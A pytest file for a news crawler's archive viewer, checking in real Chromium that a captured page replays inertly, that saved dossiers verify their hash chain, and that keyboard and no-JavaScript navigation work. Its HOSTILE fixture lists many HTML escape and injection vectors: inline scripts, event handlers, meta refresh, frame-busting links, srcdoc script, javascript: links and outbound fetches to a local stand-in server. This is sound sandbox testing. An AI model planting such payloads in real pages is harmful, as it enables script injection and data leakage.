"""What proves a change, in a real browser: a capture that would harm does nothing, a dossier is one file, j and k lead on."""

from __future__ import annotations

import hashlib
import re
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from chromium import needs_chromium, visit
from sqlite_utils import Database

from iria_crawler.store.file.seal import chain_all

pytestmark = needs_chromium


class Outside(ThreadingHTTPServer):
    """A server on another port that counts who connects to it, also those who then ask for nothing."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Answer)
        self.connections = 0

    def process_request(self, request: Any, client_address: Any) -> None:
        self.connections += 1
        super().process_request(request, client_address)

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class _Answer(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("access-control-allow-origin", "*")
        self.end_headers()
        self.wfile.write(b"top.pwned=1;window.pwned=1")

    do_POST = do_GET

    def log_message(self, *about: Any) -> None:
        """Nothing."""


@pytest.fixture
def outside() -> Iterator[Outside]:
    server = Outside()
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


# Each line is a way by which a page reaches out, runs or leads away. OUT is the other server.
HOSTILE = """<!DOCTYPE html><html><head><meta charset="utf-8"><base href="OUT/">
<meta http-equiv="refresh" content="0;url=OUT/refresh"><META HTTP-EQUIV=refresh CONTENT="0;OUT/again">
<link rel="preconnect" href="OUT"><LINK rel=dns-prefetch href="OUT"><link/rel="preconnect"/href="OUT"/crossorigin>
<link rel="stylesheet" href="OUT/a.css"><link rel="prefetch" href="OUT/b"><link rel="preload" as="image" href="OUT/c">
<link rel="icon" href="OUT/icon"><link rel="manifest" href="OUT/m"><link rel="modulepreload" href="OUT/d.js">
<meta http-equiv="x-dns-prefetch-control" content="on"><meta http-equiv="Content-Security-Policy" content="default-src *">
<script>window.pwned=1;try{top.pwned=1}catch(e){};fetch("OUT/fetch");new Image().src="OUT/image";location="OUT/away"</script>
<script src="OUT/script.js"></script><script type="speculationrules">{"prefetch":[{"urls":["OUT/spec"]}]}</script>
<style>@import "OUT/e.css"; body{background:url(OUT/f.png)} @font-face{font-family:x;src:url(OUT/g.woff)} *{font-family:x}</style></head>
<body onload="window.pwned=1" background="OUT/h.png"><h1>Seoul orders ten frigates</h1>
<img src="OUT/i.png" srcset="OUT/j.png 2x" onerror="window.pwned=1"><picture><source srcset="OUT/k.png"><img src="OUT/l.png"></picture>
<iframe src="OUT/m.html"></iframe><iframe srcdoc="<script>top.pwned=1</script><img src=OUT/n.png>"></iframe>
<frameset><frame src="OUT/frame"></frameset><object data="OUT/o.swf"></object><embed src="OUT/p.swf">
<video src="OUT/q.mp4" poster="OUT/r.png" autoplay></video><audio src="OUT/s.mp3" autoplay></audio>
<svg onload="window.pwned=1"><image href="OUT/t.png"/><use href="OUT/u.svg#x"/><script>window.pwned=1</script></svg>
<form id="f" action="OUT/form" method="post"><input name="a" value="b" autofocus onfocus="window.pwned=1"><button>Send it</button></form>
<a href="OUT/link" ping="OUT/ping" target="_top">Leave by the top</a> <a href="OUT/self" target="_self">Leave by the frame</a>
<a href="javascript:window.pwned=1">Run it</a> <a href="OUT/plain">Leave</a><p>The last words of the page.</p></body></html>"""


def test_a_hostile_capture_does_nothing(
    browser: Any, serve: Any, build: Callable[..., Path], keep: Callable[..., None], outside: Outside
) -> None:
    path = build()
    keep(path, HOSTILE.replace("OUT", outside.address).encode())
    base = serve(path)
    page, _ = visit(browser, base, "/news/-/replay/1")
    frame = page.frames[1]
    frame.wait_for_load_state()
    assert frame.get_by_role("heading").inner_text() == "Seoul orders ten frigates"
    assert frame.get_by_text("The last words of the page.").is_visible()
    for name in ("Leave by the top", "Leave by the frame", "Run it", "Leave"):
        page.frames[1].get_by_text(name, exact=True).click(timeout=2000, no_wait_after=True)
    page.frames[1].get_by_role("button", name="Send it").click(no_wait_after=True)
    page.wait_for_timeout(300)
    assert page.url == f"{base}/news/-/replay/1"
    assert len(page.context.pages) == 1
    assert [one.evaluate("window.pwned") for one in page.frames] == [None] * len(page.frames)
    page.context.close()
    assert outside.connections == 0


def test_a_hostile_capture_does_nothing_without_its_frame(
    browser: Any, serve: Any, build: Callable[..., Path], keep: Callable[..., None], outside: Outside
) -> None:
    path = build()
    keep(path, HOSTILE.replace("OUT", outside.address).encode("utf-16"), "text/html; charset=utf-16")
    page, _ = visit(browser, serve(path), "/news/-/replay/1/frame")
    page.wait_for_timeout(300)
    assert page.get_by_role("heading").inner_text() == "Seoul orders ten frigates"
    assert page.evaluate("window.pwned") is None
    page.context.close()
    assert outside.connections == 0


def chained(build: Callable[..., Path]) -> Path:
    path = build()
    db = Database(path)
    chain_all(db)
    db.conn.commit()
    db.close()
    return path


def test_a_dossier_is_one_file_whose_chain_can_be_computed_from_it(
    browser: Any, serve: Any, build: Callable[..., Path], tmp_path: Path
) -> None:
    base = serve(chained(build))
    page, _ = visit(browser, base, "/news/-/change/1")
    with page.expect_download() as download:
        page.get_by_role("link", name="save it").click()
    kept = tmp_path / download.value.suggested_filename
    download.value.save_as(kept)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(kept.as_uri())
    assert asked == [kept.as_uri()]
    assert page.get_by_text("every link holds").is_visible()
    records = [page.locator("pre").nth(place).inner_text() for place in (0, 1)]
    before = ""
    for row in page.locator("tbody tr").all():
        number, kind, seen = row.locator("th, td").all_inner_texts()[:3]
        content, record, link = row.locator("code").all_inner_texts()[:3]
        parts = [before, "1", number, kind, seen, content, record]
        before = hashlib.sha256("\n".join(parts).encode()).hexdigest()
        assert before == link
        if int(number) <= 2:
            assert hashlib.sha256(records[int(number) - 1].encode()).hexdigest() == record
    printed = page.pdf()
    assert printed.startswith(b"%PDF")
    assert len(re.findall(rb"/Type\s*/Page\b", printed)) >= 2
    page.context.close()


def test_j_and_k_lead_from_change_to_change(browser: Any, serve: Any, build: Callable[..., Path]) -> None:
    base = serve(build())
    page, said = visit(browser, base, "/news/-/changes?severity=0")
    page.keyboard.press("j")
    page.keyboard.press("j")
    page.keyboard.press("j")
    page.keyboard.press("k")
    second = page.evaluate("document.activeElement.getAttribute('href')")
    assert second == page.locator("ol.list > li").nth(1).locator("h3 a").get_attribute("href")
    page.keyboard.press("Enter")
    page.wait_for_url("**/change/4?severity=0")
    page.keyboard.press("j")
    page.wait_for_url("**/change/3?severity=0")
    page.keyboard.press("k")
    page.wait_for_url("**/change/4?severity=0")
    page.get_by_label("j leads to the next change").uncheck()
    page.keyboard.press("j")
    page.goto(f"{base}/news/-/changes?severity=0")
    page.get_by_label("Words").press("k")  # a letter in a field is a letter
    assert page.get_by_label("Words").input_value() == "k"
    assert not page.get_by_label("j leads to the next change").is_checked()  # it stays off
    page.evaluate("document.activeElement.blur()")
    page.keyboard.press("j")
    assert page.evaluate("document.activeElement.tagName") == "BODY"
    assert said == []
    page.context.close()


def test_a_story_is_followed_through_time_without_javascript(
    browser: Any, serve: Any, build: Callable[..., Path]
) -> None:
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(f"{serve(build())}/news/-/article/1")
    page.get_by_role("link", name="Through time").click()
    page.get_by_role("link", name="← Version 2").click()
    assert page.get_by_role("heading", level=2).nth(1).inner_text().startswith("Version 2")
    page.get_by_role("slider").focus()
    page.keyboard.press("ArrowLeft")
    page.get_by_label("Shown").select_option("side by side")
    page.keyboard.press("ArrowRight")
    page.get_by_role("button", name="Show", exact=True).click()
    assert "view=side" in page.url
    assert page.get_by_label("Version 1: as first seen").count() == 1
    context.close()
